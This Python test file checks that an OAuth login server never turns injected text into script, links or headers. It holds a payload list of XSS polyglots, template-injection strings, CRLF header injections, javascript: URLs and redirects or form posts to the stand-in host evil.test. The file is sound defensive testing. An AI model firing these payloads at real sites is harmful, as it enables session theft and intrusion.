"""No text of somebody else's becomes code, markup, a link or a header, wherever a page or a redirect says it.

The browser is told to overlook the content security policy, so that the policy is not what stops
anything: a script that got into a page would run, and be seen.
"""

from urllib.parse import parse_qs, quote, quote_from_bytes, urlencode, urlsplit

import pytest

from chromium import People

CALLBACK = "https://print.test/cb"
LOOSE = {"bypassCSP": True}

# One payload is many attempts in a row, as long as none keeps another from working.
TAGS = [
    "<script>__pwned()</script>\"><script>__pwned()</script>'><img src=x onerror=__pwned()>",
    "</title></textarea></style></script><svg/onload=__pwned()>--><svg><script>__pwned()</script></svg>",
    "<svg><animate onbegin=__pwned() attributeName=x></svg>"
    "<iframe srcdoc='<script>parent.__pwned()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__pwned()&gt;'>",
    "<base href=https://evil.test/><form action=https://evil.test/>"
    "<link rel=stylesheet href=https://evil.test/x>",
    "\"><meta http-equiv=refresh content='0;url=https://evil.test/'>"
    "<style>@import'https://evil.test/'</style>",
]
ATTRIBUTES = [
    "\" autofocus onfocus=\"__pwned()\" ' autofocus onfocus='__pwned()",
    'x onmouseover=__pwned() style=position:fixed;inset:0 ` onfocus=__pwned() " formaction="https://evil.test/',
]
TEMPLATES = [
    "{{ 7 * 191 }}${7*191}#{7*191}<%= 7*191 %>{{= 7*191 }}{% print 7*191 %}{{ page | safe }}",
    "{{constructor.constructor('__pwned()')()}}{%- extends 'x' %}",
]
CHARACTERS = [
    "\u202e>tpircs/<)(denwp__>tpircs<\u202c \u2028__pwned()\u2029",
    "plain\u0000<script>__pwned()</script>",
    "x\r\nX-Injected: 1\r\nSet-Cookie: x=1\r\n\r\n<script>__pwned()</script>",
    "x\u560a\u560dX-Injected: 1 %0d%0aX-Injected: 1%250d%250a",
    "&lt;script&gt;__pwned()&lt;/script&gt;&#60;script&#62;"
    "\uff1cscript\uff1e__pwned()\uff1c/script\uff1e",
    "+ADw-script+AD4-__pwned()+ADw-/script+AD4-",
]
# Bytes that are no UTF-8, which another decoder might read as markup.
BYTES = [b"\xc0\xbcscript\xc0\xbe__pwned()\xff\xfe<\x00s\x00v\x00g", b"a\xe2<svg onload=__pwned()>"]
ADDRESSES = [
    "javascript:__pwned()//",
    " jAvAsCrIpT:__pwned()",
    "java\tscript\n:__pwned()",
    "data:text/html,<script>parent.__pwned()</script>",
    "//evil.test/",
    "\\\\evil.test\\",
    "https://evil.test/",
]
TEXTS = TAGS + ATTRIBUTES + TEMPLATES + CHARACTERS
ENCODED = [quote(text, safe="") for text in TEXTS] + [quote_from_bytes(text, safe="") for text in BYTES]
ENCODED_ADDRESSES = [quote(text, safe="") for text in ADDRESSES]


@pytest.fixture(scope="module")
def residents(house):
    return People(house)


@pytest.fixture(scope="module")
def who(residents):
    names = {"name": TAGS[0], "nickname": ATTRIBUTES[0], "given_name": TAGS[1], "family_name": TEMPLATES[0]}
    return residents.user("ada", **names)


@pytest.fixture(scope="module")
def app(residents):
    return residents.app("Print", callbacks=[CALLBACK], allowed_logout_urls=["https://print.test/out"])


def authorize(house, app, given="", **more):
    """An authorization request; the encoded parameters of `given` stand in place of ours."""
    query = {"client_id": app["client_id"], "response_type": "code", "redirect_uri": CALLBACK}
    query |= {"scope": "openid", **more}
    names = {pair.split("=")[0] for pair in given.split("&")}
    ours = {name: value for name, value in query.items() if name not in names}
    return f"{house.base}/authorize?{urlencode(ours)}&{given}"


# What a page or a response says again, and what nobody refuses.
ECHOED = ["state", "nonce", "scope", "login_hint", "ui_locales", "screen_hint", "acr_values"]
# What is refused, in words that may say it again.
REFUSED = ["client_id", "redirect_uri", "response_type", "response_mode", "audience", "connection", "prompt"]
# What is refused in words of the server's alone.
OTHERS = ["organization", "max_age", "claims", "code_challenge_method", "id_token_hint", "request"]


class Watch:
    """Plays scenarios and looks at what came of them."""

    def __init__(self, browser, house, app):
        self.browser, self.house = browser, house
        # Links in mails lead to the name that the server calls its own.
        self.hosts = {house.domain, house.host_of(house.management_token())}
        harmless = [authorize(house, app, f"{name}=plain") for name in ECHOED + REFUSED + OTHERS]
        harmless += [authorize(house, app, "login_hint=plain", screen_hint="signup")]
        harmless += [authorize(house, app, f"{name}=plain", response_mode="form_post") for name in OTHERS]
        harmless += [f"{house.base}/{path}?client_id=plain" for path in ("v2/logout", "oidc/logout")]
        harmless += [f"{house.base}/u/logged-out", f"{house.base}/u/login?state=plain"]
        self.shapes = set()
        self.open(harmless, learn=True, staysOnForms=True)

    def open(self, addresses, *, learn=False, **arguments):
        """Opens the addresses one after the other."""
        seen = self.browser.play("injection.open", LOOSE, addresses=addresses, **arguments)
        return self._look(seen, addresses, learn)

    def type(self, texts, *, learn=False, **arguments):
        """Types the texts into a field and sends the form, one after the other."""
        seen = self.browser.play("injection.type", LOOSE, texts=texts, **arguments)
        return self._look(seen, texts, learn)

    def _look(self, seen, given, learn):
        assert len(seen) == len(given)
        if learn:
            self.shapes |= {one["shape"] for one in seen if "shape" in one}
        for one, text in zip(seen, given):
            self._check(one, f"{text}\n{one}")
        return seen

    def _check(self, one, where):
        """No script ran, nobody else was asked for anything, and the page is made as others are."""
        assert one["ran"] == [], where
        asked = {urlsplit(request).netloc for request in one["requests"] if request.startswith("http")}
        assert asked <= self.hosts | {"print.test"}, where
        if "left" in one:
            assert urlsplit(one["left"])[:3] == ("https", "print.test", "/cb"), where
            return
        assert one["shape"] in self.shapes, where
        assert one["scripts"] == [], where
        assert "1337" not in one["text"], where
        for pointer in one["pointers"]:
            there = urlsplit(pointer)
            allowed = there.scheme == "https" and there.netloc in self.hosts | {"print.test"}
            assert allowed or pointer == "data:,", f"{pointer}\n{where}"


@pytest.fixture(scope="module")
def watch(browser, house, app):
    return Watch(browser, house, app)


def test_what_gets_into_a_page_would_be_seen(browser, house, app):
    """The measure itself: the same texts, in a page that does not escape them."""
    address = authorize(house, app)
    seen = browser.play("injection.slip", LOOSE, address=address, texts=["plain", *TAGS[:2], *TAGS[4:]])
    harmless, *rest = seen
    assert harmless["ran"] == []
    assert [bool(one["ran"]) for one in rest[:2]] == [True, True]
    assert all(one["shape"] != harmless["shape"] for one in rest)


def test_no_text_that_a_login_carries_becomes_code(house, watch, app):
    together = ["&".join(f"{name}={text}" for name in ECHOED) for text in ENCODED]
    signup = [f"login_hint={text}" for text in ENCODED]

    watch.open([authorize(house, app, given) for given in together])
    watch.open([authorize(house, app, given, screen_hint="signup") for given in signup[::2]])


@pytest.mark.parametrize("name", REFUSED)
def test_no_parameter_that_is_refused_becomes_code(house, watch, app, name):
    texts = ENCODED + ENCODED_ADDRESSES if name in ("client_id", "redirect_uri") else ENCODED
    addresses = [authorize(house, app, f"{name}={text}", response_mode="form_post") for text in texts]
    # One of a kind, where the response goes on at once.
    by_url = [authorize(house, app, f"{name}={text}", state="x") for text in ENCODED[::6]]
    watch.open(addresses + by_url, staysOnForms=True)


def test_no_other_parameter_becomes_code(house, watch, app):
    given = [f"{name}={text}" for name in OTHERS for text in (ENCODED[0], ENCODED[6], ENCODED[12])]
    watch.open([authorize(house, app, one, response_mode="form_post") for one in given], staysOnForms=True)


@pytest.mark.parametrize("mode", ["query", "fragment", "form_post"])
def test_t8_5_a_state_arrives_as_it_was_sent_and_does_nothing(house, watch, app, mode):
    # No response carries a NUL, and no form a line feed alone: browsers send them with a carriage return.
    sent = [text for text in TEXTS + ADDRESSES if "\0" not in text]
    addresses = [
        authorize(house, app, "prompt=none", response_mode=mode, state=state) for state in sent
    ]
    seen = watch.open(addresses, leaves=True)
    for one, state in zip(seen, sent):
        if mode == "form_post":
            assert one["posted"]["state"].replace("\r\n", "\n") == state.replace("\r\n", "\n")
        else:
            (arrived,) = parse_qs(getattr(urlsplit(one["left"]), mode))["state"]
            assert arrived == state


def test_no_parameter_of_a_logout_becomes_code(house, watch, app, who):
    texts = ENCODED[::2] + ENCODED_ADDRESSES
    known = f"client_id={app['client_id']}"
    v2 = [f"{house.base}/v2/logout?{known}&returnTo={text}" for text in texts]
    v2 += [f"{house.base}/v2/logout?client_id={text}" for text in ENCODED[::4]]
    watch.open(v2)
    back = f"{known}&post_logout_redirect_uri=https%3A%2F%2Fprint.test%2Fout"
    oidc = f"{house.base}/oidc/logout"
    # A logout that is asked about: the user is logged in, and nothing proves that the application is meant.
    first = authorize(house, app)
    watch.open([f"{oidc}?{back}&state=plain"], learn=True, who=who, first=first)
    addresses = [f"{oidc}?{back}&state={text}&ui_locales={text}&logout_hint={text}" for text in ENCODED]
    addresses += [f"{oidc}?{known}&post_logout_redirect_uri={text}" for text in texts]
    watch.open(addresses, who=who, first=first)


def test_no_address_of_a_page_becomes_code(house, watch):
    pages = ["u/login", "u/signup", "u/consent", "u/confirm", "authorize/resume"]
    addresses = [f"{house.base}/{page}?state={text}" for page in pages for text in ENCODED[::5]]
    watch.open(addresses)


def test_nothing_that_is_typed_becomes_code(house, watch, app):
    login = {"address": authorize(house, app), "field": "username"}
    watch.type(["nobody@orchard.test"], learn=True, **login, others={})
    watch.type(TEXTS, **login, others={})
    signup = {"address": authorize(house, app, screen_hint="signup"), "field": "email"}
    watch.type(["nobody"], learn=True, **signup, others={"password": "short"})
    watch.type(TEXTS[1::2], **signup, others={"password": "short"})


def without_brackets(text):
    """The same with brackets that names may have."""
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def test_no_name_becomes_code(house, watch, residents, who):
    """What administrators write: names, descriptions of scopes, texts of pages."""
    texts = [text for text in TEXTS if "\0" not in text]
    scopes = [{"value": f"read:x{at}", "description": text} for at, text in enumerate(texts)]
    names = [scope["value"] for scope in scopes]
    plain = [{"value": name, "description": "plain"} for name in names]
    audience = "https://names.orchard.test"
    api = house.api(audience)
    api_path = f"resource-servers/{api['id']}"
    house.management("PATCH", api_path, {"scopes": plain})
    flags = {"flags": {"use_scope_descriptions_for_consent": True}}
    house.management("PATCH", "tenants/settings", flags)
    app = residents.app("plain", is_first_party=False, callbacks=[CALLBACK])
    grant = {"client_id": app["client_id"], "audience": audience, "subject_type": "user"}
    house.management("POST", "client-grants", {**grant, "scope": names})

    # The example of RFC 7636, appendix B.
    challenge = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
    pkce = {"code_challenge": challenge, "code_challenge_method": "S256"}
    asked = {"audience": audience, "scope": " ".join(["openid", *names]), **pkce}
    addresses = [authorize(house, app, **asked), f"{house.base}/authorize?client_id=plain"]
    login = {"who": who, "first": authorize(house, app, **pkce)}
    seen = watch.open(addresses, learn=True, **login)
    assert urlsplit(seen[0]["url"]).path == "/u/consent"
    assert seen[0]["text"].count("plain") >= len(texts)

    house.management("PATCH", api_path, {"scopes": scopes})
    for text in texts[::3]:
        house.management("PATCH", "tenants/settings", {"friendly_name": text[:256]})
        house.management("PATCH", api_path, {"name": without_brackets(text)[:200]})
        house.management("PATCH", f"clients/{app['client_id']}", {"name": without_brackets(text)})
        title = {"login-id": {"title": text, "buttonText": text}}
        house.management("PUT", "prompts/login-id/custom-text/en", title)
        (page,) = watch.open([login["first"]])
        assert text.replace("\r", "").split("\n")[0] in page["text"]
        seen = watch.open(addresses, **login)
        assert [urlsplit(one["url"]).path for one in seen] == ["/u/consent", "/authorize"]


def test_nothing_that_is_typed_where_a_password_was_forgotten_becomes_code(house, watch, app):
    house.management("PATCH", "prompts", {"identifier_first": False})
    request = {"address": authorize(house, app), "link": "a[href*=reset-password]"}
    texts = TEXTS[::2]
    watch.type(["nobody@orchard.test"], learn=True, field="username", others={}, **request)
    watch.type(texts, field="username", others={}, **request)
    # The login page that asks for both at once.
    login = {"address": authorize(house, app), "field": "username", "others": {"password": "wrong"}}
    watch.type(["nobody@orchard.test"], learn=True, **login)
    watch.type(texts, **login)


def test_no_name_becomes_code_in_a_mail(house, browser, watch, residents, app, who):
    house.management("PATCH", "tenants/settings", {"friendly_name": TAGS[0]})
    plain = residents.user("plain", name="plain")
    mails = []
    for user in (plain, who):
        steps = [("go", authorize(house, app)), ("follow", "Forgot your password?")]
        steps += [("type", {"username": user["username"]})]
        browser.play("walk.through", steps=steps)
        headers = {"Accept": "application/json"}
        mails.append(house.http.get(f"{house.base}/dev/mailbox", headers=headers, timeout=10).json()[0])
    assert [mail["to"] for mail in mails] == [plain["username"], who["username"]]
    addresses = [[f"{house.base}/dev/mailbox/{mail['id']}{end}" for end in ("", "/html")] for mail in mails]
    watch.open([f"{house.base}/dev/mailbox", *addresses[0]], learn=True)
    watch.open(addresses[1])
